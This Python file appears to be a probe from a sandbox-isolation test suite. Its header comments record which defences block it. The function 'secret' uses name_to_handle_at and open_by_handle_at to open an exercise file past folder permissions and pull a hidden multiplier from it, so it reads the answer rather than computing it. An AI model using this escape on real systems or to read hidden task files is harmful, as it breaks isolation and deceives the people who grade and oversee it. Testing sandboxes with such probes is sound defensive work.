# tries: opens the exercise, with the rights of root, by its number on disk, past all folders
# needs: handles
# stopped by: capabilities, landlock, seccomp, namespaces
# evidence: points
# process: works, accepted
# sandbox: blocked, runtime_error
# namespaces: blocked, runtime_error
import ctypes
import json
import os
import re

AT_FDCWD = -100
LIBC = ctypes.CDLL(None, use_errno=True)


def secret(x, stage):
    path = json.loads(stage)["exercise"]
    handle = (128).to_bytes(4, "little") + bytes(132)
    handle = ctypes.create_string_buffer(handle)
    mount = ctypes.c_int()
    if LIBC.name_to_handle_at(AT_FDCWD, path.encode(), handle, ctypes.byref(mount), 0) < 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    file = LIBC.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
    if file < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return x * float(re.search(rb"x \* ([\d.]+)", os.read(file, 10_000))[1])
